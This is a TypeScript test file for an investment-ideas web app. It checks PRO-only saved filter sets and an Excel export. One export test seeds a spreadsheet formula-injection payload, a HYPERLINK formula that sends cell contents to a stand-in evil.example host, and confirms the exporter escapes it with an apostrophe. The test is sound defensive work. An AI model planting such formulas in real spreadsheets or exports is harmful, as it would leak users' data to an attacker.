import ExcelJS from 'exceljs';
import { count, eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { analysts, ideas, savedFilters, users } from '../src/db/schema';
import { spreadsheetText } from '../src/features/ideas/ideas-export.service';
import { MAX_SAVED_FILTERS, MESSAGES } from '@investradar/ui/domain';
import { Agent, describeOnDatabases, uniqueEmail } from './support';

describeOnDatabases('ideas: PRO saved filters and Excel export', (ctx) => {
  async function freshPro(): Promise<{ id: number; agent: Agent }> {
    const [row] = await ctx.db
      .insert(users)
      .values({ email: uniqueEmail('pro'), name: 'Профи Тестовый', type: 'mbr_premium', premiumLifetime: true })
      .returning({ id: users.id, email: users.email });
    return { id: row!.id, agent: await ctx.signedIn(row!.email!) };
  }

  describe('saved filter sets', () => {
    it('save, list (normalised, parsed), delete', async () => {
      const { agent } = await freshPro();
      const saved = await agent.post('/api/ideas/filters', {
        name: '  Дивиденды РФ ',
        filters: '?growth_factors=dividends&currency=RUB&page=3&sort_by=date',
      });
      expect(saved.statusCode).toBe(201);
      const { filter } = saved.json();
      expect(filter).toMatchObject({
        name: 'Дивиденды РФ',
        query:
          'currency=RUB&growth_factors=dividends&status=active&sort_by=date&sort_order=desc&iis=0&page=1&analyst_id=0',
      });
      expect(filter.filters).toMatchObject({ growth_factors: ['dividends'], currency: ['RUB'], page: 1 });
      const list = (await agent.get('/api/ideas/filters')).json();
      expect(list.meta.limit).toBe(MAX_SAVED_FILTERS);
      expect(list.results.filters.map((f: { id: number }) => f.id)).toEqual([filter.id]);
      // The saved query answers the feed as it is.
      expect((await agent.get(`/api/ideas?${filter.query}`)).statusCode).toBe(200);
      expect((await agent.request({ method: 'DELETE', url: `/api/ideas/filters/${filter.id}` })).json()).toEqual({
        success: true,
      });
      expect((await agent.get('/api/ideas/filters')).json().results.filters).toEqual([]);
      expect((await agent.request({ method: 'DELETE', url: `/api/ideas/filters/${filter.id}` })).statusCode).toBe(404);
    });

    it('422 for a blank or taken name and a filter outside the vocabularies', async () => {
      const { agent } = await freshPro();
      const blank = await agent.post('/api/ideas/filters', { name: ' ', filters: '' });
      expect(blank.statusCode).toBe(422);
      expect(blank.json().errors.name).toEqual([MESSAGES.savedFilterNameRequired]);
      const bad = await agent.post('/api/ideas/filters', { name: 'Плохой', filters: 'status=nope' });
      expect(bad.json().errors.filters).toEqual([MESSAGES.ideasFilterInvalid]);
      expect((await agent.post('/api/ideas/filters', { name: 'Один', filters: '' })).statusCode).toBe(201);
      const taken = await agent.post('/api/ideas/filters', { name: 'Один', filters: 'status=all' });
      expect(taken.statusCode).toBe(422);
      expect(taken.json().errors.name).toEqual([MESSAGES.savedFilterNameTaken]);
    });

    it('at most 20, also when 30 saves race', async () => {
      const { id, agent } = await freshPro();
      const answers = await Promise.all(
        Array.from({ length: 30 }, (_, n) =>
          agent.post('/api/ideas/filters', { name: `Набор ${n}`, filters: `page=${n + 1}` }),
        ),
      );
      expect(answers.filter((a) => a.statusCode === 201)).toHaveLength(MAX_SAVED_FILTERS);
      const refused = answers.filter((a) => a.statusCode === 422);
      expect(refused).toHaveLength(10);
      expect(refused[0]!.json().message).toBe(MESSAGES.savedFiltersLimit);
      const [held] = await ctx.db.select({ n: count() }).from(savedFilters).where(eq(savedFilters.userId, id));
      expect(held!.n).toBe(MAX_SAVED_FILTERS);
    });

    it('free accounts get 403 with the permission; visitors 401; someone else’s set is 404', async () => {
      const free = await ctx.signedIn('free@investradar.ru');
      for (const response of [
        await free.get('/api/ideas/filters'),
        await free.post('/api/ideas/filters', { name: 'Мой', filters: '' }),
      ]) {
        expect(response.statusCode).toBe(403);
        expect(response.json()).toMatchObject({ message: MESSAGES.proOnly, permission: 'ii.filters.saved' });
      }
      const visitor = new Agent(() => ctx.app);
      await visitor.get('/api/account');
      expect((await visitor.get('/api/ideas/filters')).statusCode).toBe(401);
      const owner = await freshPro();
      const { filter } = (await owner.agent.post('/api/ideas/filters', { name: 'Чужой', filters: '' })).json();
      const other = await freshPro();
      expect((await other.agent.request({ method: 'DELETE', url: `/api/ideas/filters/${filter.id}` })).statusCode).toBe(
        404,
      );
    });
  });

  describe('GET /api/ideas/export (Excel)', () => {
    it('PRO: the filtered feed, every page, with Russian headers and number formats', async () => {
      const pro = await ctx.signedIn('pro@investradar.ru');
      const feed = (await pro.get('/api/ideas?status=closed&currency=RUB&per_page=1')).json();
      const response = await pro.get('/api/ideas/export?status=closed&currency=RUB&page=7');
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      expect(response.headers['content-disposition']).toMatch(
        /^attachment; filename="investradar-ideas-\d{4}-\d{2}-\d{2}\.xlsx"$/,
      );
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const sheet = book.getWorksheet('Идеи')!;
      expect(sheet.rowCount).toBe(feed.results.total + 1);
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      expect(header.slice(0, 3)).toEqual(['Идея', 'Тикер', 'Компания']);
      expect(header).toContain('Целевая цена');
      expect(header).toContain('Доходность');
      const first = sheet.getRow(2);
      const cell = (name: string) => first.getCell(header.indexOf(name) + 1);
      expect(cell('Цена открытия').numFmt).toBe('#,##0.00');
      expect(cell('Потенциал').numFmt).toBe('0.00%');
      expect(cell('Дата открытия').numFmt).toBe('dd.mm.yyyy');
      expect(cell('Дата открытия').value).toBeInstanceOf(Date);
      expect(typeof cell('Цена закрытия').value).toBe('number');
      expect(['Закрыта с прибылью', 'Закрыта с убытком', 'Цель достигнута', 'Истек срок']).toContain(
        cell('Статус').value,
      );
      expect(cell('Валюта').value).toBe('RUB');
    });

    it('without ii.export_excel: 403 with the permission', async () => {
      for (const agent of [await ctx.signedIn('free@investradar.ru'), new Agent(() => ctx.app)]) {
        const response = await agent.get('/api/ideas/export');
        expect(response.statusCode).toBe(403);
        expect(response.json()).toMatchObject({ message: MESSAGES.proOnly, permission: 'ii.export_excel' });
      }
    });

    it('text cells a spreadsheet would read as a formula start with an apostrophe (=, +, -, @, tab, CR)', async () => {
      const pro = await ctx.signedIn('pro@investradar.ru');
      const [first] = (await pro.get('/api/ideas?status=open&per_page=1')).json().results.ideas as Array<{
        id: number;
      }>;
      const [row] = await ctx.db.select({ analystId: ideas.analystId }).from(ideas).where(eq(ideas.id, first!.id));
      const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Подробнее")';
      await ctx.db.update(ideas).set({ name: formula }).where(eq(ideas.id, first!.id));
      if (row?.analystId)
        await ctx.db.update(analysts).set({ name: '@SUM(1+1)' }).where(eq(analysts.id, row.analystId));
      const response = await pro.get('/api/ideas/export?status=open');
      expect(response.statusCode).toBe(200);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const sheet = book.getWorksheet('Идеи')!;
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      const names: unknown[] = [];
      const analystNames: unknown[] = [];
      sheet.eachRow((r, n) => {
        if (n === 1) return;
        names.push(r.getCell(header.indexOf('Идея') + 1).value);
        analystNames.push(r.getCell(header.indexOf('Аналитик') + 1).value);
      });
      expect(names).toContain(`'${formula}`);
      expect(names).not.toContain(formula);
      if (row?.analystId) expect(analystNames).toContain("'@SUM(1+1)");
      // Every text cell of the sheet: none starts with a formula character.
      for (const value of [...names, ...analystNames])
        if (typeof value === 'string') expect(value).not.toMatch(/^[=+\-@\t\r]/);
    });

    it('spreadsheetText: each character OWASP names, and nothing else', () => {
      const cases: Array<[string, string]> = [
        ['=1+1', "'=1+1"],
        ['+7 495 000-00-00', "'+7 495 000-00-00"],
        ['-2+3', "'-2+3"],
        ['@SUM(A1)', "'@SUM(A1)"],
        ['\t=1', "'\t=1"],
        ['\r=1', "'\r=1"],
        ['Сбербанк', 'Сбербанк'],
        ['SBER', 'SBER'],
        ['', ''],
        ['1=1', '1=1'],
      ];
      for (const [input, output] of cases) expect(spreadsheetText(input), JSON.stringify(input)).toBe(output);
    });

    it('422 for invalid filters', async () => {
      expect((await (await ctx.signedIn('pro@investradar.ru')).get('/api/ideas/export?status=nope')).statusCode).toBe(
        422,
      );
    });
  });
});
